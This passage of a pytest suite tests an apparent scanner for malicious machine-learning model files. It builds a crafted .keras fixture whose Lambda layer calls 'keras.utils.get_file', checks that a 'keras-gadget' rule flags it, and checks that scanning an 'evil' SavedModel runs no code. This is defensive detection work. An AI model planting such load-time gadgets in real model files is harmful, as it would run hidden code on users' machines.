    assert {f.kind for f in report.files} == {"keras", "hdf5", "tensor-bundle", "meta-graph"}


@pytest.mark.slow  # ~9 s: MobileNetV2 saved three ways, ConvNeXtTiny built
def test_keras_applications_in_every_format_are_clean(tmp_path: Path) -> None:
    import keras

    for name, build in (("mobilenetv2", lambda: keras.applications.MobileNetV2(
                            weights=None, input_shape=(32, 32, 3), alpha=0.35, classes=3)),
                        ("convnext", lambda: keras.applications.ConvNeXtTiny(
                            weights=None, input_shape=(32, 32, 3), classes=3))):
        model = build()
        model.compile(optimizer="adam", loss="sparse_categorical_crossentropy", metrics=["accuracy"])
        if name == "convnext":  # 110 MB a file: its config alone (LayerScale from keras.src.applications)
            config = json.loads(json.dumps(keras.saving.serialize_keras_object(model)))
            assert keras_config.findings_of(config, path="convnext") == []
            continue
        paths = [tmp_path / f"{name}.keras", tmp_path / f"{name}.weights.h5", tmp_path / f"{name}.h5"]
        model.save(paths[0])
        model.save_weights(paths[1])
        model.save(paths[2])
        keras.saving.load_model(str(paths[0]))  # Keras loads it in safe mode
        report = _scan(*paths)
        assert report.exit_code == 0 and not _warnings(report), _warnings(report)
        for args in (["inspect", str(paths[0])], ["verify", str(paths[2])]):
            assert "warning" not in runner.invoke(app, args).stderr


# --- the command ------------------------------------------------------------------------------------------------


@pytest.mark.tf  # its fixture builds with TensorFlow/Keras
def test_scan_command_outputs(base: dict[str, Path], tmp_path: Path) -> None:
    directory = tmp_path / "models"
    directory.mkdir()
    (directory / "good.keras").write_bytes(base["base"].read_bytes())
    _with_config(base["base"], directory / "bad.keras", _gadget_lambda(GADGETS[0][1], GADGETS[0][2]))
    (directory / "notes.txt").write_text("not a model")
    before = {p.name: p.read_bytes() for p in directory.iterdir()}
    text = runner.invoke(app, ["scan", str(directory)])
    assert text.exit_code == 1
    lines = text.stdout.splitlines()
    bad = [line for line in lines if line.startswith(str(directory / "bad.keras"))]
    assert len(bad) == 1 and "warning (load): named_relu: Lambda layer 'named_relu' calls 'keras.utils.get_file'" \
        in bad[0]
    assert any(line.startswith(str(directory / "good.keras") + ": no finding") for line in lines)
    sarif = tmp_path / "scan.sarif"
    as_json = runner.invoke(app, ["scan", str(directory), "--json", "--sarif", str(sarif)])
    data = json.loads(as_json.stdout)
    assert data["schema"] == "ckptcheck.scan/1" and data["summary"]["exit_code"] == 1
    assert [Path(f["path"]).name for f in data["files"]] == ["bad.keras", "good.keras"]
    finding = data["files"][0]["findings"][0]
    assert finding["rule"] == "keras-gadget" and finding["when"] == "load" and finding["severity"] == "warning"
    log = json.loads(sarif.read_text())
    assert log["version"] == "2.1.0" and log["$schema"].endswith("sarif-2.1.0.json")
    run = log["runs"][0]
    assert [r["id"] for r in run["tool"]["driver"]["rules"]] == ["keras-gadget"]
    result = run["results"][0]
    assert result["ruleId"] == "keras-gadget" and result["level"] == "warning"
    assert result["locations"][0]["physicalLocation"]["artifactLocation"]["uri"].endswith("bad.keras")
    assert {p.name: p.read_bytes() for p in directory.iterdir()} == before  # nothing scanned was written
    clean = runner.invoke(app, ["scan", str(directory / "good.keras")])
    assert clean.exit_code == 0
    missing = runner.invoke(app, ["scan", str(directory / "notes.txt")])
    assert missing.exit_code == 2 and missing.stderr.count("\n") == 1


@pytest.mark.tf  # its fixture builds with TensorFlow/Keras
def test_scan_imports_no_tensorflow_and_runs_nothing(base: dict[str, Path], saved_models: dict[str, Any],
                                                     tmp_path: Path) -> None:
    """The scan reads bytes: with TensorFlow and Keras made to fail on import it still scans a SavedModel and a
    .keras (the SavedModel's initializer, which would write its marker, is not run)."""
    marker = saved_models["marker"]
    marker.unlink(missing_ok=True)
    paths = [str(saved_models["root"] / "evil"), str(base["base"])]
    script = textwrap.dedent(
        f"""
        import sys
        sys.modules["tensorflow"] = None
        sys.modules["keras"] = None
        from ckptcheck.cli import app
        try:
            app(["scan", *{paths!r}], standalone_mode=False)
        except SystemExit as exc:
            assert exc.code in (None, 1), exc.code
        assert sys.modules.get("tensorflow") is None and sys.modules.get("keras") is None
        print("NO-TF-OK")
        """
    )
    env = dict(os.environ, PYTHONPATH=str(REPO))
    proc = subprocess.run([sys.executable, "-c", script], capture_output=True, text=True, timeout=120, env=env)
    assert proc.returncode == 0, proc.stderr[-3000:]
    assert "NO-TF-OK" in proc.stdout and "WriteFile" in proc.stdout
    assert not marker.exists()
